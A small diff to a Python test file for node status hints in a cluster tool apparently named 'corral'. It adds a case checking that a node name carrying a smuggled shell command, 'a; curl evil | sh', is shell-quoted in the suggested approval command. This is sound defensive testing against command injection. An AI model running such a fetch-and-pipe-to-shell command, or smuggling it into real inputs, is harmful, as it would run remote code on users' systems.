@@ -25,6 +25,7 @@ def view(name: str, status: str = "healthy", **more: object) -> NodeView:
         (view("a"), ""),
         (view("a", status_reason="approved by admin"), ""),
         (view("a", "pending"), "waits for approval: corral nodes approve a"),
+        (view("a; curl evil | sh", "pending"), "waits for approval: corral nodes approve 'a; curl evil | sh'"),
         (view("a", "offline", status_reason="silent for 70 s"), "silent for 70 s"),
         (view("a", ingress_error="nothing answers at http://a:50050"), "nothing answers at http://a:50050"),
         (view("a", bus_down=True), "cannot reach the bus"),
